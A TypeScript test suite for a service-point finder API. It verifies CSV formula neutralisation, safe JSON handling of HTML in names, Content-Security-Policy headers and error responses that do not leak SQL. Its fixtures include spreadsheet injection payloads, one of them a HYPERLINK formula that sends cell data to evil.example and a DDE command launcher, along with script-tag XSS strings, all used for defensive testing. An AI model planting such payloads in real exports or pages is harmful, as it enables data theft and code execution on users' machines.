import fs from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import request from 'supertest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { importFeedFile } from '../../data-loaders/lib/import-feed.js';
import type { Database } from '../../db/database.js';
import { feedSpec, tmpDir, writeCsv } from '../fixtures/loaders/make-feeds.js';
import { testApp } from '../support/test-app.js';
import { MODES, openTestDatabase, type TestDatabase } from '../support/test-database.js';
import { messages } from '../../server/http/messages.js';

/** Names a spreadsheet would run as a formula (full-width forms included), each on a point of its own. */
const FORMULA_NAMES = [
  '=HYPERLINK("http://evil.example/?q="&A1,"Click")',
  '+SUM(1,2)',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1,2)',
  '\uFF1D1+1',
  '\uFF0B1+1',
  '\uFF0D1+1',
  '\uFF20SUM(1,2)',
] as const;
const PLAIN_NAME = 'Plain office 1';
/** The loader trims every cell, so a leading tab or CR cannot arrive through a feed; set in the table directly. */
const TAB_NAME = '\t=1+1';
const CR_NAME = '\r=1+1';

const ORIGIN = { lon: -66.64, lat: 45.96 };
const CLIENT_DIST = path.resolve('dist/client');
const HAS_CLIENT = fs.existsSync(path.join(CLIENT_DIST, 'index.html'));

function parseCsv(text: string): Record<string, string>[] {
  return parse(text, { bom: true, columns: true, skip_empty_lines: true, relax_column_count: false }) as Record<
    string,
    string
  >[];
}

/** The directives of a Content-Security-Policy header. */
function cspDirectives(header: string | undefined): Map<string, string[]> {
  const out = new Map<string, string[]>();
  for (const part of (header ?? '').split(';')) {
    const [name, ...values] = part.trim().split(/\s+/);
    if (name) out.set(name.toLowerCase(), values);
  }
  return out;
}

describe.each(MODES)('safe output on %s', (mode) => {
  let t: TestDatabase;
  const dir = tmpDir('finder-safe-output-');
  const header = ['id', 'name', 'address', 'city', 'province', 'lat', 'lon'];

  beforeAll(async () => {
    t = await openTestDatabase(mode);
    // Provincial points a few metres apart near Fredericton, and one federal point beside the first (a co-location pair).
    const rows = [...FORMULA_NAMES, PLAIN_NAME, 'Tab office', 'CR office'].map((name, i) => [
      `P${i}`,
      name,
      `${i + 1} Queen St`,
      'Fredericton',
      'NB',
      (ORIGIN.lat + i * 0.0001).toFixed(5),
      (ORIGIN.lon - i * 0.0001).toFixed(5),
    ]);
    const prov = writeCsv(path.join(dir, 'prov.csv'), header, rows);
    const p = await importFeedFile(t.db, feedSpec('safe-prov', 'ca-nb'), prov, {
      originalName: 'prov.csv',
      publish: true,
    });
    expect(p.status).toBe('published');
    expect(p.report.accepted).toBe(rows.length);
    const fed = writeCsv(path.join(dir, 'fed.csv'), header, [
      ['F1', '=FED()', '1 Queen St', 'Fredericton', 'NB', ORIGIN.lat.toFixed(5), ORIGIN.lon.toFixed(5)],
    ]);
    const f = await importFeedFile(t.db, feedSpec('safe-fed', 'ca'), fed, { originalName: 'fed.csv', publish: true });
    expect(f.status).toBe('published');
    await t.db.query("UPDATE service_points SET name_en = $1 WHERE feed_id = 'safe-prov' AND name_en = 'Tab office'", [
      TAB_NAME,
    ]);
    await t.db.query("UPDATE service_points SET name_en = $1 WHERE feed_id = 'safe-prov' AND name_en = 'CR office'", [
      CR_NAME,
    ]);
  }, 180_000);
  afterAll(async () => {
    await t?.cleanup();
    fs.rmSync(dir, { recursive: true, force: true });
  });

  describe('CSV exports', () => {
    it('nearest: UTF-8 with BOM, formula cells neutralised, coordinates and distances still plain numbers', async () => {
      const res = await request(testApp(t.db))
        .get(`/api/service-points/nearest?lon=${ORIGIN.lon}&lat=${ORIGIN.lat}&limit=20&format=csv&jurisdiction=ca-nb`)
        .expect(200);
      expect(res.headers['content-type']).toMatch(/^text\/csv; charset=utf-8/);
      expect(res.text.startsWith('\uFEFF')).toBe(true);
      const rows = parseCsv(res.text);
      const json = (
        await request(testApp(t.db))
          .get(`/api/service-points/nearest?lon=${ORIGIN.lon}&lat=${ORIGIN.lat}&limit=20&jurisdiction=ca-nb`)
          .expect(200)
      ).body as {
        results: { id: string; name: string; lon: number; lat: number; distance_m: number }[];
      };
      expect(rows).toHaveLength(json.results.length);
      // Every point of this file's provincial feed is among them (another test may add points elsewhere in NB).
      const own = await t.db.query<{ id: string }>(
        "SELECT id FROM service_points WHERE feed_id = 'safe-prov' AND is_published",
      );
      expect(own.rows).toHaveLength(FORMULA_NAMES.length + 3);
      const ids = new Set(rows.map((r) => r['id']));
      for (const { id } of own.rows) expect(ids.has(id), id).toBe(true);
      const byId = new Map(rows.map((r) => [r['id'], r]));
      for (const point of json.results) {
        const row = byId.get(point.id);
        expect(row, point.id).toBeDefined();
        // Formula starts are prefixed with an apostrophe; anything else comes back exactly as stored.
        const risky = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(point.name);
        expect(row!['name'], JSON.stringify(point.name)).toBe(risky ? `'${point.name}` : point.name);
        // Negative longitudes must stay numbers a spreadsheet can sum, not text.
        for (const col of ['lon', 'lat', 'distance_m'] as const) {
          expect(row![col], `${point.id} ${col}`).toMatch(/^-?\d+(\.\d+)?(e-?\d+)?$/i);
          expect(Number(row![col])).toBeCloseTo(point[col], 6);
        }
        expect(Number(row!['lon'])).toBeLessThan(0);
      }
      const names = rows.map((r) => r['name']);
      for (const n of [...FORMULA_NAMES, TAB_NAME, CR_NAME]) expect(names).toContain(`'${n}`);
      expect(names).toContain(PLAIN_NAME);
      // No cell other than a number starts with a formula character.
      for (const row of rows) {
        for (const [col, cell] of Object.entries(row)) {
          if (/^-?\d+(\.\d+)?$/.test(cell)) continue;
          expect(/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell), `${col}: ${JSON.stringify(cell)}`).toBe(false);
        }
      }
    });

    it('bbox list: the same neutralisation', async () => {
      const bbox = [ORIGIN.lon - 0.01, ORIGIN.lat - 0.01, ORIGIN.lon + 0.01, ORIGIN.lat + 0.01].join(',');
      const res = await request(testApp(t.db)).get(`/api/service-points?bbox=${bbox}&format=csv&limit=50`).expect(200);
      expect(res.text.startsWith('\uFEFF')).toBe(true);
      const rows = parseCsv(res.text);
      const names = rows.map((r) => r['name']);
      for (const n of [...FORMULA_NAMES, TAB_NAME, '=FED()']) expect(names).toContain(`'${n}`);
      for (const r of rows) expect(r['lon']).toMatch(/^-\d+\.\d+$/);
    });

    it('co-location analysis: nested point names neutralised, coordinates and distance numeric', async () => {
      const res = await request(testApp(t.db)).get('/api/partnerships/colocation?max_m=100&format=csv').expect(200);
      expect(res.text.startsWith('\uFEFF')).toBe(true);
      const rows = parseCsv(res.text);
      expect(rows.length).toBeGreaterThan(0);
      const pair = rows.find(
        (r) => r['b.id'] !== undefined && r['a.name'] === "'=FED()" && r['b.name'] === `'${FORMULA_NAMES[0]}`,
      );
      expect(pair, JSON.stringify(rows.slice(0, 3))).toBeDefined();
      for (const r of rows) {
        expect(r['a.name']!.startsWith("'")).toBe(true);
        for (const col of ['a.lon', 'a.lat', 'b.lon', 'b.lat', 'lon', 'lat', 'distance_m'])
          expect(r[col], col).toMatch(/^-?\d+(\.\d+)?(e-?\d+)?$/i);
        expect(Number(r['a.lon'])).toBeLessThan(0);
      }
    });
  });

  describe('markup in names is data', () => {
    it('the loader strips a <script> element from a name (html_removed) and the API returns the stored name as JSON', async () => {
      const file = writeCsv(path.join(dir, 'html.csv'), header, [
        ['H1', '<script>alert("x")</script>Centre <b>Alpha</b>', '1 Main St', 'Moncton', 'NB', '46.0878', '-64.7782'],
        ['H2', 'Centre <script src=x & "y" \'z\'', '2 Main St', 'Moncton', 'NB', '46.0879', '-64.7783'],
      ]);
      const r = await importFeedFile(t.db, feedSpec('safe-html', 'ca-nb'), file, {
        originalName: 'html.csv',
        publish: true,
      });
      expect(r.status).toBe('published');
      expect(r.report.accepted).toBe(2);
      const html = r.report.issues.filter((i) => i.code === 'html_removed');
      expect(html).toEqual([expect.objectContaining({ row: 1, field: 'name', severity: 'warning' })]);
      const stored = await t.db.query<{ id: string; source_id: string; name_en: string }>(
        "SELECT id, source_id, name_en FROM service_points WHERE feed_id = 'safe-html' ORDER BY source_id",
      );
      // The whole script element goes (content too); other tags leave their text.
      expect(stored.rows.map((s) => s.name_en)).toEqual(['Centre Alpha', 'Centre <script src=x & "y" \'z\'']);
      for (const s of stored.rows) {
        const res = await request(testApp(t.db)).get(`/api/service-points/${s.id}`).expect(200);
        expect(res.headers['content-type']).toMatch(/^application\/json/);
        expect(res.headers['content-type']).not.toMatch(/html/);
        expect(res.body.name).toBe(s.name_en);
      }
    });

    it('a <script> stored by any route comes back unchanged inside a JSON string, never as text/html', async () => {
      const script = '<script>alert(document.cookie)</script> & "Centre" </title>';
      const id = (
        await t.db.query<{ id: string }>("SELECT id FROM service_points WHERE feed_id = 'safe-prov' AND name_en = $1", [
          PLAIN_NAME,
        ])
      ).rows[0]!.id;
      await t.db.query('UPDATE service_points SET name_fr = $2 WHERE id = $1', [id, script]);
      const res = await request(testApp(t.db)).get(`/api/service-points/${id}?lang=fr`).expect(200);
      expect(res.headers['content-type']).toMatch(/^application\/json/);
      expect(res.headers['x-content-type-options']).toBe('nosniff');
      expect(res.body.name).toBe(script);
      expect(res.body.name_fr).toBe(script);
      // Neither escaped to entities nor stripped: JSON.parse of the raw body gives the stored text back.
      expect(res.text).not.toContain('&lt;');
      expect((JSON.parse(res.text) as { name: string }).name).toBe(script);
      const list = await request(testApp(t.db))
        .get(`/api/service-points/nearest?lon=${ORIGIN.lon}&lat=${ORIGIN.lat}&limit=20&lang=fr&format=geojson`)
        .expect(200);
      expect(list.headers['content-type']).toMatch(/^application\/geo\+json/);
      const feature = (list.body as { features: { id: string; properties: { name: string } }[] }).features.find(
        (x) => x.id === id,
      );
      expect(feature?.properties.name).toBe(script);
    });
  });

  describe('security headers', () => {
    function expectSafeHeaders(res: request.Response): Map<string, string[]> {
      expect(res.headers['x-powered-by']).toBeUndefined();
      expect(res.headers['x-content-type-options']).toBe('nosniff');
      const csp = cspDirectives(res.headers['content-security-policy'] as string | undefined);
      expect(csp.get('default-src')).toEqual(["'self'"]);
      // MapLibre starts its tile worker from a blob: URL made by the bundle.
      expect(csp.get('worker-src')).toEqual(expect.arrayContaining(["'self'", 'blob:']));
      const scripts = csp.get('script-src') ?? [];
      expect(scripts).toContain("'self'");
      expect(scripts).not.toContain("'unsafe-inline'");
      expect(scripts).not.toContain("'unsafe-eval'");
      expect(csp.get('object-src')).toEqual(["'none'"]);
      expect(csp.get('frame-ancestors')).toEqual(["'self'"]);
      return csp;
    }

    it('on an API response', async () => {
      const res = await request(testApp(t.db)).get('/api/health').expect(200);
      expectSafeHeaders(res);
      const problem = await request(testApp(t.db)).get('/api/service-points/nearest?lon=abc&lat=1').expect(400);
      expectSafeHeaders(problem);
    });

    it('on the client index page', async ({ skip }) => {
      if (!HAS_CLIENT) skip(`no built client in ${CLIENT_DIST} (run npm run build)`);
      const res = await request(testApp(t.db, CLIENT_DIST)).get('/').expect(200);
      expect(res.headers['content-type']).toMatch(/^text\/html/);
      expectSafeHeaders(res);
      // script-src 'self' blocks inline scripts: the page must load every script from a file.
      const scripts = [...res.text.matchAll(/<script\b([^>]*)>([\s\S]*?)<\/script>/gi)];
      expect(scripts.length).toBeGreaterThan(0);
      for (const [, attrs, body] of scripts) {
        expect(attrs).toMatch(/\bsrc=/);
        expect(body!.trim()).toBe('');
      }
    });
  });

  describe('unexpected errors', () => {
    const SQL = 'SELECT sp.secret_column FROM service_points sp WHERE sp.is_published';

    /** The real database, except that the nearest-points query goes wrong. */
    function failingNearest(fail: (text: string, params: readonly unknown[] | undefined) => Promise<never>): Database {
      return new Proxy(t.db, {
        get(target, prop, receiver) {
          if (prop === 'query') {
            return (text: string, params?: readonly unknown[]) =>
              /ORDER BY sp\.geog <->/.test(text) ? fail(text, params) : target.query(text, params);
          }
          const v: unknown = Reflect.get(target, prop, receiver);
          return typeof v === 'function' ? (v as (...a: unknown[]) => unknown).bind(target) : v;
        },
      });
    }

    function expectNoLeak(body: string, leaks: string[]) {
      for (const leak of leaks) expect(body).not.toContain(leak);
      expect(body).not.toMatch(/\n\s+at /);
      expect(body).not.toMatch(/\bat .*\.(ts|js):\d+/);
      expect(body).not.toMatch(/SELECT|service_points|\.sql/i);
    }

    it('a real database error (a column that does not exist) is a 500 problem+json without SQL or stack', async () => {
      // The real nearest query with one column renamed: the driver's own error, with its SQL position and text.
      let driverError: Error | null = null;
      const db = failingNearest(async (text, params) => {
        try {
          await t.db.query(text.replace('SELECT sp.*', 'SELECT sp.secret_lon_column, sp.*'), params);
        } catch (err) {
          driverError = err as Error;
          throw err;
        }
        throw new Error('the renamed column should have failed');
      });
      const res = await request(testApp(db, undefined, undefined, { NEAREST_INDEX_MAX_POINTS: 0 }))
        .get(`/api/service-points/nearest?lon=${ORIGIN.lon}&lat=${ORIGIN.lat}`)
        .expect(500);
      expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
      expect(res.body).toMatchObject({
        status: 500,
        type: expect.stringContaining('#internal'),
        title: 'Internal server error',
      });
      expect(typeof res.body.detail).toBe('string');
      // The driver's error did name the column: the handler, not luck, kept it out of the response.
      expect(driverError).not.toBeNull();
      expect(String(driverError!.message)).toContain('secret_lon_column');
      expectNoLeak(res.text, ['secret_lon_column', 'does not exist', '42703']);
      const fr = await request(testApp(db, undefined, undefined, { NEAREST_INDEX_MAX_POINTS: 0 }))
        .get(`/api/service-points/nearest?lon=${ORIGIN.lon}&lat=${ORIGIN.lat}&lang=fr`)
        .expect(500);
      expect(fr.body.title).toBe(messages.internal.fr);
      expect(fr.body.title).not.toBe(messages.internal.en);
    });

    it('an error whose message, query and hint carry SQL is rendered without them', async () => {
      const db = failingNearest(() => {
        const err = Object.assign(new Error(`syntax error at or near "secret_column" in ${SQL}`), {
          code: '42601',
          query: SQL,
          hint: `Try ${SQL}`,
          where: 'PL/pgSQL function secret_fn() line 3',
        });
        return Promise.reject(err);
      });
      const res = await request(testApp(db, undefined, undefined, { NEAREST_INDEX_MAX_POINTS: 0 }))
        .get(`/api/service-points/nearest?lon=${ORIGIN.lon}&lat=${ORIGIN.lat}&format=csv`)
        .expect(500);
      expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
      expect(res.body).toMatchObject({
        status: 500,
        type: expect.any(String),
        title: expect.any(String),
        detail: expect.any(String),
      });
      expect(Object.keys(res.body).sort()).toEqual(['detail', 'status', 'title', 'type']);
      expectNoLeak(res.text, ['secret_column', 'secret_fn', '42601', 'syntax error']);
    });

    it('a database that drops the connection is a 503 with Retry-After, still without internals', async () => {
      const db = failingNearest(() =>
        Promise.reject(
          Object.assign(new Error(`connect ECONNREFUSED 127.0.0.1:5432 while running ${SQL}`), {
            code: 'ECONNREFUSED',
          }),
        ),
      );
      const res = await request(testApp(db, undefined, undefined, { NEAREST_INDEX_MAX_POINTS: 0 }))
        .get(`/api/service-points/nearest?lon=${ORIGIN.lon}&lat=${ORIGIN.lat}`)
        .expect(503);
      expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
      expect(res.headers['retry-after']).toBe('5');
      expect(res.body).toMatchObject({ status: 503, type: expect.stringContaining('#unavailable') });
      expectNoLeak(res.text, ['ECONNREFUSED', '5432', 'secret_column']);
    });
  });
});
